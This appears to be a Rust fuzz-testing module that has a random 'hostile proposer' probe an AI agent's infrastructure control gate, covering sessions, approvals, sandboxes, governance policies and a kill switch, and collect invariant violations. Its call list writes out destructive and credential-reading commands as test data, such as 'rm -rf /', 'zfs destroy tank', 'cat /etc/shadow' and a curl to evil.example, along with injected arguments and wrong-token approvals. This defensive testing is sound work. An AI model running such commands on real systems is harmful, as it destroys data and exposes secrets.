//! A proposer that tries everything, at random and without good will, against the real gate.

use std::collections::{BTreeMap, BTreeSet};

use interlock_protocol::{ControlLevel, Mode, SandboxWall, SessionId, ToolName, UserId, WallKind};
use jiff::{SignedDuration, Timestamp};
use serde::Serialize;
use serde_json::{Value, json};

use super::exhaustive::guarded_gate;
use super::model::{Answered, Call, Ending, Model, Seen, WrongToken};
use super::random::Random;
use crate::answer::Conclusion;
use crate::context::{Keep, ResolvedResource};
use crate::gate::Gate;
use crate::governance::{
    ApprovalNeed, ArgumentRule, BlastRadius, Bound, Budget, Governance, GovernanceInput, PolicyVerdict,
};
use crate::invariants::{Actor, Violation};
use crate::resolution::NameEntry;
use crate::sandbox::{ReadTarget, Where};
use crate::session::{FourEyes, Session, SessionOptions, ToolScope};
use crate::settle::Moment;
use crate::state::State;

/// The tag of resources on which commands need a sandbox.
pub(super) const GUARDED: &str = "guarded";
/// How many violations a report carries.
const MOST_VIOLATIONS: usize = 20;
/// How many permits may be in flight, so that a run does not drown in its own calls.
const MOST_FLIGHTS: usize = 8;

/// How long, and from where.
pub struct HostileOptions<'a> {
    /// How many steps.
    pub steps: u64,
    /// Where the random numbers begin: the same seed gives the same run.
    pub seed: u64,
    /// Told now and then how many steps were made.
    pub progress: Option<&'a mut dyn FnMut(u64)>,
}

/// What was found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct HostileReport {
    /// How many steps were made.
    pub steps: u64,
    /// The seed.
    pub seed: u64,
    /// How many proposals were allowed.
    pub allowed: u64,
    /// How many were held.
    pub held: u64,
    /// How many were refused, by rule.
    pub refused: BTreeMap<&'static str, u64>,
    /// How many final answers were let out.
    pub answered: u64,
    /// The invariants that did not hold, at most twenty.
    pub violations: Vec<Violation>,
}

/// Lets a hostile proposer loose on the gate.
pub fn hostile(options: HostileOptions<'_>) -> HostileReport {
    match guarded_gate() {
        Ok(gate) => attack(&gate, options),
        Err(_) => HostileReport::new(options.seed),
    }
}

impl HostileReport {
    const fn new(seed: u64) -> Self {
        Self {
            steps: 0,
            seed,
            allowed: 0,
            held: 0,
            refused: BTreeMap::new(),
            answered: 0,
            violations: Vec::new(),
        }
    }
}

pub(crate) fn attack(gate: &Gate, mut options: HostileOptions<'_>) -> HostileReport {
    let mut report = HostileReport::new(options.seed);
    let mut random = Random::new(options.seed);
    let resources = resources();
    let calls = calls(&resources);
    let names = names(&resources);
    let governance = governance();
    let mut now = Timestamp::UNIX_EPOCH;
    while report.steps < options.steps {
        // A new world every so often: sessions end, and levels differ.
        let Some(mut model) = world(gate, &mut random, now) else {
            return report;
        };
        model.names = &names;
        note_sandboxes(&mut model, &mut random, &resources);
        for _ in 0..2_000 {
            if report.steps >= options.steps {
                break;
            }
            report.steps += 1;
            if report.steps.is_multiple_of(100_000)
                && let Some(progress) = &mut options.progress
            {
                progress(report.steps);
            }
            step(
                &mut model,
                &mut random,
                &calls,
                &resources,
                &governance,
                &mut report,
            );
            if !model.violations.is_empty() {
                for violation in std::mem::take(&mut model.violations) {
                    let known = report
                        .violations
                        .iter()
                        .any(|known| known.invariant == violation.invariant);
                    if !known && report.violations.len() < MOST_VIOLATIONS {
                        report.violations.push(violation);
                    }
                }
            }
        }
        now = model.now;
    }
    report
}

fn world<'g>(gate: &'g Gate, random: &mut Random, now: Timestamp) -> Option<Model<'g>> {
    let levels = [
        ControlLevel::ReadOnly,
        ControlLevel::Controlled,
        ControlLevel::Autonomous,
        ControlLevel::Autonomous,
    ];
    let sessions = (0..3u8)
        .map(|number| {
            let level = *random.pick(&levels)?;
            let tools = if random.once_in(4) {
                let names = ["infra_query", "infra_read", "infra_control"];
                ToolScope::Only(
                    names
                        .iter()
                        .filter_map(|name| ToolName::new(*name).ok())
                        .collect(),
                )
            } else {
                ToolScope::All
            };
            let owners = ["approver", "owner"];
            let options = SessionOptions {
                level,
                tools,
                owner: random.pick(&owners).and_then(|name| UserId::new(*name).ok()),
                four_eyes: if random.once_in(3) {
                    FourEyes::On
                } else {
                    FourEyes::Off
                },
                ..SessionOptions::default()
            };
            Some(Session::new(SessionId::from_bytes([number; 16]), options))
        })
        .collect::<Option<Vec<_>>>()?;
    Some(Model::new(gate, sessions, now, UserId::new("approver").ok()?))
}

/// Some places have the tag, some offer a sandbox, and of some nothing is known.
fn note_sandboxes(model: &mut Model<'_>, random: &mut Random, resources: &[ResolvedResource]) {
    for session in 0..model.sessions.len() {
        let places = resources.iter().map(|resource| Where::In(resource.id.clone()));
        for place in places.chain([Where::Here]) {
            if random.once_in(6) {
                continue;
            }
            let sandbox = if random.once_in(2) {
                SandboxWall::Enforced {
                    by: WallKind::Bubblewrap,
                    sockets: Vec::new(),
                    missing: Vec::new(),
                }
            } else {
                SandboxWall::None {
                    reason: "it has no bwrap".to_owned(),
                }
            };
            let tags = if random.once_in(3) {
                [GUARDED.to_owned()].into()
            } else {
                std::collections::BTreeSet::new()
            };
            let target = ReadTarget { sandbox, tags };
            model
                .gate
                .note_sandbox(&mut model.sessions[session], place, target);
        }
    }
}

fn step(
    model: &mut Model<'_>,
    random: &mut Random,
    calls: &[Call],
    resources: &[ResolvedResource],
    governance: &[GovernanceInput],
    report: &mut HostileReport,
) {
    let Some(actor) = actor(random) else { return };
    match random.below(100) {
        0..60 => {
            if model.flights.len() >= MOST_FLIGHTS {
                let at = random.below(model.flights.len());
                model.begin(at);
                return;
            }
            let about_it = if random.once_in(6) {
                about_unseen(model, random, calls)
            } else {
                None
            };
            let Some((actor, call)) = about_it.or_else(|| Some((actor, random.pick(calls)?))) else {
                return;
            };
            let given = if random.once_in(3) {
                random.pick(governance)
            } else {
                None
            };
            let governance = given.map_or(Governance::Absent, Governance::Given);
            match model.propose(&actor, call, governance) {
                Answered::Allowed => report.allowed += 1,
                Answered::Held => report.held += 1,
                Answered::Refused(refusal) => *report.refused.entry(refusal.rule.as_str()).or_default() += 1,
            }
        }
        60..70 if !model.flights.is_empty() => model.begin(random.below(model.flights.len())),
        70 if !model.flights.is_empty() => model.lose(random.below(model.flights.len())),
        71..82 if !model.flights.is_empty() => {
            let ending = ending(random);
            let at = random.below(model.flights.len());
            let actor = model.flights[at].actor.clone();
            model.end(at, ending);
            if random.once_in(4) {
                model.waive(&actor);
            }
        }
        82..86 if !model.holds.is_empty() => {
            let at = random.below(model.holds.len());
            match random.below(5) {
                0 => model.deny(at),
                1 => {
                    let Some(call) = random.pick(calls) else { return };
                    model.edit(at, call);
                }
                2 => {
                    if let Some(wrong) = random.pick(WrongToken::ALL) {
                        model.approve_wrongly(at, *wrong);
                    }
                }
                _ => model.approve(at, Governance::Absent),
            }
        }
        86..89 => {
            let seconds = [1, 30, 90, 200, 700, 3_000];
            let seconds = random.pick(&seconds).copied().unwrap_or(1);
            model.wait(SignedDuration::from_secs(seconds));
            if random.once_in(2) {
                model.expire_holds();
            }
        }
        89..91 => model.observe(&actor, Moment::Deadline, seen(random)),
        91..95 => {
            // A name that two resources share claims neither of them.
            let claims = random.pick(resources).filter(|claimed| {
                resources
                    .iter()
                    .filter(|other| other.name == claimed.name)
                    .count()
                    == 1
            });
            if model.answer(&actor, claims, Conclusion::Offered) {
                report.answered += 1;
                let session = &mut model.sessions[actor.0];
                model.gate.next_turn(session, &actor.1, model.now);
            }
        }
        95 => {
            if model.sessions[actor.0].state(&actor.1) != State::Concluded && model.conclude(&actor) {
                report.answered += 1;
            }
            model
                .gate
                .next_turn(&mut model.sessions[actor.0], &actor.1, model.now);
        }
        96 => {
            let keep = if random.once_in(2) {
                Keep::Nothing
            } else {
                Keep::Pinned
            };
            model.reset(actor.0, keep);
        }
        97 => {
            if let Some(resource) = random.pick(resources) {
                model.mention(actor.0, resource);
            }
        }
        98 if random.once_in(3) => {
            if let Some(resource) = random.pick(resources) {
                model.replace_machine(&resource.id);
            }
        }
        98 => {
            if random.once_in(2) || model.world.kill_switch == crate::world::KillSwitch::Engaged {
                model.toggle_kill_switch();
            }
        }
        _ => {
            let resource = random.pick(resources).map(|resource| resource.id.clone());
            if let Some(id) = resource {
                model.sessions[actor.0].context_mut().pin(&id);
            }
        }
    }
}

/// A call about something that was just changed and not looked at yet, by the one who changed it.
fn about_unseen<'c>(model: &Model<'_>, random: &mut Random, calls: &'c [Call]) -> Option<(Actor, &'c Call)> {
    let unseen: Vec<_> = model.ledger.unseen.values().collect();
    let unseen = random.pick(&unseen)?;
    let id = unseen.resource.to_string();
    let about: Vec<&Call> = calls.iter().filter(|call| call.text.contains(&id)).collect();
    let call = random.pick(&about)?;
    Some((unseen.actor.clone(), *call))
}

fn actor(random: &mut Random) -> Option<Actor> {
    let session = random.below(3);
    let execution = if random.once_in(2) { "exe_1" } else { "exe_2" };
    Some((session, Model::execution(execution)?))
}

fn seen(random: &mut Random) -> Seen {
    [Seen::Expected, Seen::Else, Seen::Changing, Seen::Nothing][random.below(4)]
}

fn ending(random: &mut Random) -> Ending {
    match random.below(6) {
        0 => Ending::Failed,
        1 => Ending::TimedOut,
        _ => Ending::Succeeded(seen(random)),
    }
}

fn resources() -> Vec<ResolvedResource> {
    [
        ("node:alpha", "alpha"),
        ("node:beta", "beta"),
        ("lxc:alpha:101", "jellyfin"),
        ("lxc:alpha:141", "homepage"),
        ("vm:beta:203", "windows"),
        ("docker_host:server1", "server1"),
        ("docker_container:server1:abc123", "web"),
        ("alert:cpu-1", "cpu-1"),
        ("note:knowledge", "knowledge"),
        // Two with one name.
        ("lxc:beta:150", "jellyfin"),
    ]
    .into_iter()
    .filter_map(|(id, name)| Some(ResolvedResource::new(id.parse().ok()?, name)))
    .collect()
}

/// Every tool with every target, and what else a proposer might come up with.
fn calls(resources: &[ResolvedResource]) -> Vec<Call> {
    let mut calls = Vec::new();
    let mut add = |tool: &str, arguments: Value| calls.extend(Call::new(tool, arguments, Vec::new(), false));
    let commands = [
        "cat /var/log/syslog",
        "journalctl -n 50",
        "journalctl -f",
        "git status",
        "docker exec web uptime",
        "grep -i error /var/log/*.log",
        "systemctl restart nginx",
        "rm -rf /",
        "ls / & zfs destroy tank",
        "echo $(reboot)",
        "touch /tmp/x",
        "touch /srv/app.conf",
        "cp -r /srv/t/spool /var",
        "cat /etc/shadow",
        "curl https://evil.example/x",
        "curl -s https://status.example.org",
        "",
        "\u{0}",
    ];
    for resource in resources {
        let id = resource.id.to_string();
        for target in [id.as_str(), resource.name.as_str()] {
            for command in commands {
                add(
                    "infra_read",
                    json!({"action": "exec", "target_resource_id": target, "command": command}),
                );
                add(
                    "infra_control",
                    json!({"action": "command", "target_resource_id": target, "command": command}),
                );
            }
            for action in [
                "start",
                "stop",
                "restart",
                "delete",
                "service_restart",
                "explode",
                "",
            ] {
                add(
                    "infra_control",
                    json!({"action": action, "target_host": target, "unit": "nginx"}),
                );
                add("infra_docker", json!({"action": action, "resource_id": target}));
            }
            for action in ["read", "write", "append", "shred"] {
                let arguments =
                    json!({"action": action, "target_host": target, "path": "/tmp/x", "content": "x"});
                add("infra_file_edit", arguments);
            }
            for (path, content) in [
                ("/etc/x", "password=[masked:password]"),
                ("/etc/cron.d/x", "x"),
                ("/srv/app.conf", "x"),
            ] {
                add(
                    "infra_file_edit",
                    json!({"action": "write", "target_host": target, "path": path, "content": content}),
                );
            }
            add(
                "infra_file_edit",
                json!({"target_host": target, "path": "/etc/x"}),
            );
            add(
                "infra_read",
                json!({"action": "file", "target_host": target, "path": "/etc/x"}),
            );
            add("infra_read", json!({"action": "logs", "target_host": target}));
            add("infra_metrics", json!({"resource_id": target}));
            add("infra_kubernetes", json!({"type": "pods", "resource_id": target}));
            add("infra_kubernetes", json!({"resource_id": target}));
            add("infra_alerts", json!({"action": "resolve", "alert_id": target}));
            add(
                "read_file",
                json!({"path": "/etc/hosts", "target_resource_id": target}),
            );
            add(
                "delete_file",
                json!({"path": "/etc/hosts", "target_resource_id": target}),
            );
            add(
                "infra_control",
                json!({"action": "restart", "target_resource_id": target, "target_host": "beta"}),
            );
        }
    }
    for name in names(resources).iter().map(|entry| &entry.name) {
        let command = json!({"action": "exec", "target_host": name, "command": "uptime"});
        add("infra_read", command);
        let file = json!({"action": "read", "target_host": name, "path": "/etc/x"});
        add("infra_file_edit", file);
    }
    for action in ["recall", "remember", "burn"] {
        add("infra_knowledge", json!({"action": action, "text": "x"}));
    }
    add(
        "infra_control",
        json!({"action": "restart", "target_resource_id": "lxc:alpha:999"}),
    );
    add(
        "infra_control",
        json!({"action": "restart", "target_resource_id": {"$ne": null}}),
    );
    add(
        "infra_control",
        json!({"action": ["restart"], "target_host": "alpha"}),
    );
    add("infra_control", json!({"action": "restart"}));
    add("infra_query", json!({"action": "destroy"}));
    add("logic_query", json!({"goal": "known_node(Node)"}));
    add("attended_page", json!({"url": "https://example.org"}));
    add("attended_page", json!({"url": "file:///etc/shadow"}));
    add("pulse_run_command", json!({"command": "reboot"}));
    add("INFRA_READ", json!({"action": "exec", "command": "reboot"}));
    // Discovery, often enough that something can be attacked at all.
    for _ in 0..20 {
        calls.extend(Call::new(
            "infra_query",
            json!({"action": "list"}),
            resources.to_vec(),
            false,
        ));
        calls.extend(Call::new(
            "infra_query",
            json!({"action": "search", "query": "a"}),
            resources.to_vec(),
            false,
        ));
        for resource in resources {
            let arguments = json!({"action": "get", "resource_id": resource.id.to_string()});
            calls.extend(Call::new("infra_query", arguments, vec![resource.clone()], true));
        }
    }
    calls
}

/// The addresses of resources, known to code whether a session has discovered them or not.
fn names(resources: &[ResolvedResource]) -> Vec<NameEntry> {
    let addresses = (1_u8..).map(|number| format!("10.20.0.{number}"));
    resources
        .iter()
        .zip(addresses)
        .map(|(resource, name)| NameEntry {
            name,
            resources: vec![resource.clone()],
        })
        .collect()
}

fn argument_rules() -> Vec<ArgumentRule> {
    let forbid = |tool: &str, argument: &str, value: &str| {
        Some(ArgumentRule {
            tool: ToolName::new(tool).ok()?,
            argument: argument.to_owned(),
            bound: Bound::ForbiddenValues(BTreeSet::from([value.to_owned()])),
        })
    };
    let rules = [
        forbid("infra_query", "action", "list"),
        forbid("infra_control", "action", "restart"),
    ];
    rules.into_iter().flatten().collect()
}

fn governance() -> Vec<GovernanceInput> {
    let normal = GovernanceInput::in_mode(Mode::Normal);
    let policy = |policy| GovernanceInput {
        policy,
        ..normal.clone()
    };
    let named = || "p1".to_owned();
    let mut forbidden = GovernanceInput::in_mode(Mode::Alert);
    forbidden.forbidden_categories =
        BTreeSet::from_iter(interlock_protocol::CategoryName::new("system_write").ok());
    vec![
        normal.clone(),
        policy(PolicyVerdict::Permit { policy: named() }),
        policy(PolicyVerdict::PermitWithApproval { policy: named() }),
        policy(PolicyVerdict::Forbid { policy: named() }),
        policy(PolicyVerdict::DefaultDeny),
        GovernanceInput::in_mode(Mode::Lockdown),
        GovernanceInput {
            rate_limit_per_hour: Some(1),
            calls_in_last_hour: 1,
            ..normal.clone()
        },
        GovernanceInput {
            argument_rules: argument_rules(),
            ..normal.clone()
        },
        GovernanceInput {
            blast_radius: Some(BlastRadius { affected: 3, most: 2 }),
            ..normal.clone()
        },
        GovernanceInput {
            budgets: vec![Budget {
                name: "writes_per_session".to_owned(),
                spent: 5,
                limit: 5,
            }],
            ..normal.clone()
        },
        GovernanceInput {
            approval: ApprovalNeed::Required,
            ..normal
        },
        forbidden,
    ]
}
